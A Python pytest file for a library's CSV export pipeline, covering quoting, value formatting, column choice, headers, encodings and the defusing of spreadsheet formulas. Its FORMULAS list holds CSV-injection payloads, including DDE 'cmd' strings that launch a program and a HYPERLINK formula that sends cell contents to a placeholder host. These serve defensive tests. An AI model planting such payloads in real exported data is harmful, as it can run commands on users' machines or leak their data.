from __future__ import annotations

import csv
import dataclasses
import io
import math
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pydantic
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from openoctopus.items import Field, Item
from openoctopus.pipelines.feeds import FeedPipeline
from openoctopus.pipelines.feeds.csv import defused


def rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


texts = st.text(st.characters(exclude_categories=("Cs",)))


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(table=st.lists(st.lists(texts, min_size=2, max_size=2), min_size=1, max_size=6), delimiter=st.sampled_from(",;\t|"))
async def test_any_text_comes_back(tmp_path: Path, crawl: Any, table: list[list[str]], delimiter: str) -> None:
    path = tmp_path / "items.csv"
    async with crawl(FeedPipeline(path, overwrite=True, raw=True, delimiter=delimiter)) as running:
        running.put(*[dict(zip("ab", row, strict=True)) for row in table])

    assert rows(path.read_bytes().decode(), delimiter) == [["a", "b"], *table]


@pytest.mark.parametrize("text", ["", "x", "\r", "\n", '"', " ", "a,b"])
async def test_a_single_column_comes_back(written: Any, text: str) -> None:
    assert rows(await written("items.csv", [{"a": text}], raw=True)) == [["a"], [text]]


async def test_lines_are_those_of_rfc_4180(written: Any) -> None:
    items = [{"a": 'say "hi", ok', "b": "x\ny"}, {"a": "2", "b": " ü "}]

    assert await written("items.csv", items) == 'a,b\r\n"say ""hi"", ok","x\ny"\r\n2, ü \r\n'


async def test_values_have_one_form_each(written: Any) -> None:
    item = {
        "none": None, "true": True, "int": -5, "big": 2**80, "float": -1.5, "nan": math.nan, "decimal": Decimal("-1.50"),
        "date": date(2024, 5, 6), "list": ["a", {"b": 1}], "map": {"文": None}, "bytes": b"ab", "empty": "",
    }  # fmt: skip

    assert dict(zip(*rows(await written("items.csv", [item])), strict=True)) == {
        "none": "", "true": "True", "int": "-5", "big": str(2**80), "float": "-1.5", "nan": "", "decimal": "-1.50",
        "date": "2024-05-06", "list": '["a",{"b":1}]', "map": '{"文":null}', "bytes": "ab", "empty": "",
    }  # fmt: skip


FORMULAS = [
    "=1+1", '=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '"=1+1"', "'=1+1", '""=1', "+86-138-0000", "- text", "--", "=", "@user", "-1e5x", "+1 2",
]  # fmt: skip
HARMLESS = [
    "",
    "a=b",
    "-5",
    "+5",
    "-1,234.56",
    "-.5",
    "-12%",
    "+1e10",
    "-1.5E-3",
    "-",
    "+",
    " =1",
    "1-2",
    "'quoted'",
    '"quoted"',
    "文=1",
]


@pytest.mark.parametrize("text", FORMULAS)
async def test_a_formula_is_defused(written: Any, text: str) -> None:
    assert rows(await written("items.csv", [{"a": text, text: "b"}])) == [["a", "'" + text], ["'" + text, "b"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_stay(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("text", FORMULAS)
async def test_raw_leaves_formulas_as_they_are(written: Any, text: str) -> None:
    assert rows(await written("items.csv", [{"a": text}], raw=True)) == [["a"], [text]]


@pytest.mark.parametrize("text", ["-" + "1" * 100_000 + "x", "-" + "1," * 50_000 + "e", '"' * 100_000 + "x", "'" * 100_000])
def test_no_text_takes_long_to_judge(text: str) -> None:
    for _ in range(20):
        defused(text)


class Book(Item):
    title = Field()
    author = Field()
    year = Field()


@dataclasses.dataclass
class Song:
    name: str
    length: int | None = None


class Film(pydantic.BaseModel):
    name: str
    length: int | None = None


async def test_columns_are_those_that_the_class_declares(written: Any) -> None:
    text = await written("items.csv", [Book(year=1854, title="Walden"), Book(author="Thoreau")])

    assert rows(text) == [["title", "author", "year"], ["Walden", "", "1854"], ["", "Thoreau", ""]]


@pytest.mark.parametrize("kind", [Song, Film])
async def test_columns_of_other_classes(written: Any, kind: Any) -> None:
    assert rows(await written("items.csv", [kind(name="a")])) == [["name", "length"], ["a", ""]]


async def test_columns_of_plain_items_are_those_of_the_first_batch(written: Any) -> None:
    text = await written("items.csv", [{"a": 1}, {"b": 2, "a": 3}, {}, {"c": 4}])

    assert rows(text) == [["a", "b", "c"], ["1", "", ""], ["3", "2", ""], ["", "", ""], ["", "", "4"]]


async def test_fields_choose_columns_and_their_order(written: Any) -> None:
    items = [{"a": 1, "b": 2, "c": 3}, {"d": 4}]

    assert rows(await written("x.csv", items, fields=["c", "a"])) == [["c", "a"], ["3", "1"], ["", ""]]
    assert rows(await written("y.csv", items, fields={"b": "=B", "z": "Z"})) == [["'=B", "Z"], ["2", ""], ["", ""]]


async def test_fields_make_a_header_without_items(written: Any) -> None:
    assert await written("items.csv", [], fields=["a", "b"]) == "a,b\r\n"


async def test_a_header_may_be_left_out(written: Any) -> None:
    assert await written("items.csv", [{"a": 1, "b": 2}], fields=["b", "a"], header=False) == "2,1\r\n"
    assert await written("items.csv", [{"a": 3}], fields=["b", "a"], header=False) == "2,1\r\n,3\r\n"


async def test_a_mark_is_written_once(written: Any) -> None:
    for number in range(3):
        text = await written("items.csv", [{"标": number}], encoding="utf-8-sig")

    assert text == "标\r\n0\r\n1\r\n2\r\n"


@pytest.mark.parametrize("encoding", ["gb18030", "utf-16", "utf-8-sig"])
async def test_encodings(written: Any, encoding: str) -> None:
    for number in range(2):
        text = await written("items.csv", [{"标题": f"长城 🐙 {number}\n"}], encoding=encoding)

    assert rows(text) == [["标题"], ["长城 🐙 0\n"], ["长城 🐙 1\n"]]


async def test_what_an_encoding_has_not_is_escaped_and_said_once(written: Any, caplog: pytest.LogCaptureFixture) -> None:
    text = await written("items.csv", [{"a": "长🐙"}, {"a": "ñ"}], encoding="gbk")

    assert text == "a\r\n长\\U0001f419\r\n\\xf1\r\n"
    assert [record.message for record in caplog.records] == [
        "gbk has no '🐙': it is written as an escape, and so are all like it"
    ]
